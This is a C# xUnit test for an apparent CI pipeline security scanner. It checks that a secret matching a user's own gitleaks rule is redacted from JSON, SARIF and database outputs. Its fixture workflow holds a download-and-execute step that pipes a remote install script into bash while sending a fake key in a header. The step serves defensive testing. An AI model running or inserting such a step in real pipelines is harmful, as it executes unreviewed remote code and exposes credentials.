using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Cli.Hostile;

/// <summary>
/// Findings were redacted by the built-in secret rules only: a secret of the user's own format (a gitleaks rule given with
/// <c>scan --rules</c>) quoted by another detector (the download-and-execute step of a workflow) reached the output whole.
/// </summary>
public sealed class UserRuleRedactionTests : IDisposable
{
    private const string Secret = "corp_live_" + "4f9a8b7c6d5e4f3a2b1c";

    private readonly TempFolder _temp = new();

    public void Dispose() => _temp.Dispose();

    [Fact]
    public async Task A_secret_of_a_user_gitleaks_rule_quoted_by_another_detector_is_redacted_in_every_output()
    {
        File.WriteAllText(_temp.File("gitleaks.toml"), """
            [extend]
            useDefault = true

            [[rules]]
            id = "corp-live-key"
            description = "Corp live API key"
            regex = '''corp_live_[0-9a-f]{20}'''
            keywords = ["corp_live_"]
            """);
        Directory.CreateDirectory(_temp.File("repo/.github/workflows"));
        File.WriteAllText(_temp.File("repo/.github/workflows/ci.yml"), $$"""
            name: ci
            on: push
            jobs:
              build:
                runs-on: ubuntu-latest
                steps:
                  - run: |
                      curl -sSL -H "X-Corp-Key: {{Secret}}" https://get.example.net/install.sh | bash
            """);

        var result = await new CliRunner(_temp.Path).RunAsync(
            "scan", "repo", "--no-git", "--rules", "gitleaks.toml", "--format", "json", "--report", "sarif=out.sarif", "--store", _temp.File("store.db"));

        Assert.Equal(1, result.ExitCode);
        Assert.Contains("code-change.pipeline-tampering", result.Output, StringComparison.Ordinal);
        Assert.Contains("corp-live-key", result.Output, StringComparison.Ordinal);
        var outputs = new[] { result.Output, result.Error, File.ReadAllText(_temp.File("out.sarif")) }
            .Concat(Directory.GetFiles(_temp.Path, "store.db*").Select(f => System.Text.Encoding.Latin1.GetString(File.ReadAllBytes(f))));
        foreach (var text in outputs)
        {
            for (var at = 0; at + 10 <= Secret.Length; at++)
            {
                var piece = Secret.Substring(at, 10);
                if (piece.StartsWith("corp_live", StringComparison.Ordinal)) continue;
                Assert.DoesNotContain(piece, text, StringComparison.Ordinal);
            }
        }
    }
}
